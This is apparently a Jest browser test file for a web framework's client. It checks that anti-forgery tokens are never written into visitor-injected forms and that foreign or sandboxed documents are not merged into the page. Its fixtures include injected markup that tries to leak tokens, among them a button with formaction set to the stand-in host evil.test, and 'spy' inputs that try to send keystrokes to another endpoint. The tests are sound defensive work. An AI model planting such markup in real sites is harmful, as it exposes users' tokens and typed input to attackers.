/** The client does for the server's markup what it does not do for visitors', and merges only documents that act for this site. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { createLoom, type Exchange, type Loom, trustedHTML } from 'zip-loom';
import { describeIn } from '../support/engines/describe-in.ts';
import { engines, isSameWindow, openWithClient, type Tab, until, untilText } from '../support/engines/index.ts';
import { openPagesServer, type PagesServer } from '../support/pages-server.ts';
import { quietLogger, secret } from '../support/settings.ts';

const sources = {
  'layouts/site-layout.html':
    '<!doctype html>\n<html lang="en"><head><title>${context.url?.pathname}</title><script type="module" async src="/client.js"></script></head><body><main><slot></slot></main></body></html>',
  'pages/board.html': `<meta (takes comments, count, draft = false)>
<section (region box)><b id="count">\${count}</b> <a id="next" href="/?count=\${count + 1}">next</a> <a id="away" href="/away">away</a></section>
<form id="own" method="post"><input name="text" id="text"><button id="send">Send</button></form>
<div id="comments">\${comments}</div>
<div (region aside from="/aside" when="near")>Loading…</div>`,
  'pages/away.html': '<h1>Away</h1><section (region other)><a id="home" href="/?count=5">home</a></section>',
  'pages/aside.html':
    '<div (region aside)><form id="inner" method="post" action="/aside"><button id="inner-send">Send</button></form></div>',
  'pages/links.html': `<meta (takes kind)>
<section (region box)><p id="shown">as it was</p><a id="link" href="/document?kind=\${kind}">document</a>
<a id="dialog" href="/document?kind=\${kind}" data-loom-open="dialog">in a dialog</a></section>`,
  'pages/search.html': `<meta (takes comments, from)>
<section (region box)><input id="ours" list="owners" data-loom-search=\${from}><datalist id="owners" (region owners)></datalist>
<form id="live" method="get" action="/live" data-loom-submit-on="input" data-loom-debounce="10"><input id="typed" name="typed"></form>
<form id="server" method="post"><input name="a"></form><div id="comments">\${comments}</div></section>`,
};

let server: PagesServer;
let loom: Loom;
let requests: string[];
let answer: (exchange: Exchange, url: URL) => Promise<Response>;

beforeAll(async () => {
  loom = await createLoom({ sources, layouts: { '**': 'site-layout' }, secret, logger: quietLogger });
  server = await openPagesServer(
    async (request) => {
      const url = new URL(request.url);
      requests.push(`${request.method} ${url.pathname}${url.search}`);
      const exchange = await loom.exchange(request);
      return answer(exchange, url);
    },
    { policy: false },
  );
});
afterAll(() => server?.close());

describeIn(engines, (visitor) => {
  let tab: Tab;
  const open = (path = '/') => openWithClient(tab, server.address + path);
  const tokens = () =>
    tab.run(() =>
      [...document.querySelectorAll('[name=loom-token]')].map((one) => [one.id, (one as HTMLInputElement).value]),
    );
  const ownToken = () => tab.run(() => document.querySelector<HTMLInputElement>('#own [name=loom-token]')!.value);
  beforeEach(() => {
    tab = visitor();
    requests = [];
  });

  describe('tokens', () => {
    const stolen = [
      '<form method="post" action="/transfer"><input type="hidden" name="loom-token" id="empty"><button>x</button></form>',
      '<form method="post" action="/transfer"><input type="hidden" name="loom-token" value="a.b" id="filled"></form>',
      '<form method="get" action="/transfer"><input type="hidden" name="loom-token" id="query"></form>',
      '<form method="post"><input type="hidden" name="loom-token" id="aside"><button formaction="https://evil.test/">x</button></form>',
      '<input type="hidden" name="loom-token" form="own" id="beside">',
      '<template data-loom-token="x.y"></template><template data-loom-page="board" data-loom-token="" data-loom-mark=""></template>',
    ].join('');
    beforeEach(() => {
      answer = async (exchange, { pathname, searchParams }) => {
        const count = Number(searchParams.get('count') ?? 1);
        if (pathname === '/away') return exchange.respond('away');
        if (pathname === '/aside' && exchange.request.method === 'GET') return exchange.respond('aside');
        if (exchange.request.method === 'POST') {
          const { ok } = await exchange.verify();
          requests.push(`token of ${pathname} ${ok ? 'taken' : 'refused'}`);
          if (!ok) return new Response('refused', { status: 403 });
        }
        if (pathname === '/aside') return exchange.redirect('/?count=8');
        if (exchange.request.method === 'POST') return exchange.redirect('/?count=9');
        return exchange.respond('board', { comments: trustedHTML(stolen), count });
      };
    });

    test('are renewed in the server’s forms, and written into no field of a visitor', async () => {
      await open();
      const before = await ownToken();
      await tab.click('#next');
      await untilText(tab, '#count', '2');
      const after = await ownToken();
      expect([before.length > 40, after.length > 40, before === after, await isSameWindow(tab)]).toEqual([
        true,
        true,
        false,
        true,
      ]);
      const visitors = (await tokens()).filter(([id]) => id !== '');
      expect(visitors).toEqual([
        ['empty', ''],
        ['filled', 'a.b'],
        ['query', ''],
        ['aside', ''],
        ['beside', ''],
      ]);
      await tab.click('#send');
      await untilText(tab, '#count', '9');
    });

    test('are not renewed in a form that a visitor’s button could send elsewhere', async () => {
      await open();
      // From the second page on the server knows what the browser has, and sends the form no more.
      await open();
      await tab.run(() => {
        const button = document.createElement('button');
        button.setAttribute('form', 'own');
        button.setAttribute('formaction', 'https://evil.test/');
        document.querySelector('#comments')!.append(button);
      });
      const before = await ownToken();
      await tab.click('#next');
      await untilText(tab, '#count', '2');
      expect(await ownToken()).toBe(before);
    });

    test('of another page renew nothing, whatever brings them', async () => {
      const respond = answer;
      answer = async (exchange, url) => {
        const response = await respond(exchange, url);
        if (url.pathname !== '/' || !exchange.request.headers.has('loom-region')) return response;
        const text = (await response.text()).replace(/(data-loom-token="[^".]*\.)[^"]*"/g, '$1elsewhere"');
        expect(text).toContain('.elsewhere"');
        const headers = new Headers(response.headers);
        headers.delete('content-length');
        return new Response(text, { status: response.status, headers });
      };
      await open();
      // From the second page on the server knows what the browser has, and sends the form no more.
      await open();
      const before = await ownToken();
      await tab.click('#next');
      await untilText(tab, '#count', '2');
      expect(await ownToken()).toBe(before);
    });

    test('belong to the page that made them: in a region from another page, and after going back', async () => {
      await open();
      await until(tab, () => document.querySelector('#inner [name=loom-token]') !== null);
      // Behind the dot of a token is its page.
      const pages = await tab.run(() =>
        [...document.querySelectorAll<HTMLInputElement>('#own [name=loom-token], #inner [name=loom-token]')].map(
          ({ value }) => value.split('.')[1],
        ),
      );
      expect(new Set(pages).size).toBe(2);
      await tab.click('#next');
      await untilText(tab, '#count', '2');
      await tab.click('#inner-send');
      for (const end = Date.now() + 30_000; Date.now() < end && !requests.some((one) => one.startsWith('token of')); )
        await new Promise((resolve) => setTimeout(resolve, 20));
      expect(requests.filter((one) => one.startsWith('token of'))).toEqual(['token of /aside taken']);
      await open();
      await tab.click('#away');
      await until(tab, () => document.querySelector('#home') !== null);
      await tab.back();
      await until(tab, () => document.querySelector('#own [name=loom-token]') !== null);
      await tab.click('#send');
      await untilText(tab, '#count', '9');
    });
  });

  describe('documents that do not act for this site', () => {
    const page =
      '<!doctype html><html><head><title>x</title></head><body><main><section data-loom-region="box"><p id="shown">taken over</p></section></main></body></html>';
    const kinds: Readonly<Record<string, Record<string, string>>> = {
      sandboxed: { 'content-type': 'text/html', 'content-security-policy': 'sandbox' },
      'sandboxed with scripts': {
        'content-type': 'text/html; charset=utf-8',
        'content-security-policy': "default-src 'none'; SANDBOX allow-scripts",
      },
      attached: { 'content-type': 'text/html', 'content-disposition': 'attachment; filename="a.html"' },
      'another type': { 'content-type': 'text/html-like' },
      XML: { 'content-type': 'application/xhtml+xml' },
      'plain text': { 'content-type': 'text/plain' },
    };
    beforeEach(() => {
      answer = async (exchange, { pathname, searchParams }) => {
        if (pathname === '/') return exchange.respond('links', { kind: searchParams.get('kind') });
        if (pathname === '/merged') return new Response(null, { status: 204 });
        return new Response(page, { headers: kinds[searchParams.get('kind')!] ?? { 'content-type': 'text/html' } });
      };
    });
    const isAsked = (path: string) => requests.some((one) => one.includes(` ${path}`));
    const untilAsked = async (path: string) => {
      for (const end = Date.now() + 20_000; !isAsked(path) && Date.now() < end; )
        await new Promise((resolve) => setTimeout(resolve, 20));
      expect(requests).toContainEqual(expect.stringContaining(` ${path}`));
    };

    /** Follows the link. Whatever is merged tells the server, so the tab need not be asked: it may be on its way to a document without storage. */
    const follow = async (kind: string, link: string) => {
      await open(`/?kind=${encodeURIComponent(kind)}`);
      await tab.run(() => {
        const tell = () => {
          if (document.body.textContent?.includes('taken over') || document.querySelector('dialog[open]'))
            navigator.sendBeacon('/merged');
        };
        new MutationObserver(tell).observe(document.documentElement, {
          subtree: true,
          childList: true,
          attributes: true,
        });
      });
      await tab.click(link);
      await untilAsked('/document');
    };
    const links = ['#link', '#dialog'];

    test.each(Object.keys(kinds).flatMap((kind) => links.map((link) => [kind, link] as const)))(
      '%s by %s: neither into the page nor into a dialog',
      async (kind, link) => {
        await follow(kind, link);
        await new Promise((resolve) => setTimeout(resolve, 300));
        expect(isAsked('/merged')).toBe(false);
      },
    );

    test.each(links)('a document of this site by %s: taken over', async (link) => {
      await follow('own', link);
      await untilAsked('/merged');
    });
  });

  describe('what sends something while one types', () => {
    const comments = trustedHTML(
      [
        '<input id="spy" list="owners" data-loom-search="/spy" data-loom-mark="x">',
        '<form id="form-spy" action="/spy" data-loom-submit-on="input" data-loom-debounce="1"><input id="spy-text" name="a"></form>',
        '<form id="post-spy" action="/spy" method="post" data-loom-submit-on="change"><input id="post-text" name="a"></form>',
        '<input form="server" name="a" id="control-spy" data-loom-submit-on="change">',
      ].join(''),
    );
    let from = '/owners';
    beforeEach(() => {
      answer = async (exchange) => exchange.respond('search', { comments, from });
    });

    test('is the server’s alone', async () => {
      from = '/owners';
      await open();
      for (const id of ['spy', 'spy-text', 'post-text', 'control-spy']) {
        await tab.click(`#${id}`);
        await tab.type('ab');
        await tab.press('Tab');
      }
      await tab.click('#typed');
      await tab.type('x');
      await until(tab, () => location.search === '?typed=x' || location.pathname === '/live');
      await tab.click('#ours');
      await tab.type('y');
      // What is ours is asked for last.
      const isAsked = (path: string) => requests.some((one) => one.startsWith(`GET ${path}`));
      for (const end = Date.now() + 20_000; !isAsked('/owners') && Date.now() < end; )
        await new Promise((resolve) => setTimeout(resolve, 20));
      expect(requests.filter((one) => one.includes('spy') || one.startsWith('POST'))).toEqual([]);
      expect([isAsked('/live'), isAsked('/owners')]).toEqual([true, true]);
    });

    test('never asks another site', async () => {
      const other = await openPagesServer(async (request) => {
        requests.push(`elsewhere ${request.url}`);
        return new Response('');
      });
      from = `${other.address}/owners`;
      try {
        await open();
        await tab.click('#ours');
        await tab.type('secret');
        // Longer than a search waits.
        await new Promise((resolve) => setTimeout(resolve, 900));
        expect(requests.filter((one) => one.startsWith('elsewhere'))).toEqual([]);
      } finally {
        await other.close();
      }
    });
  });
});
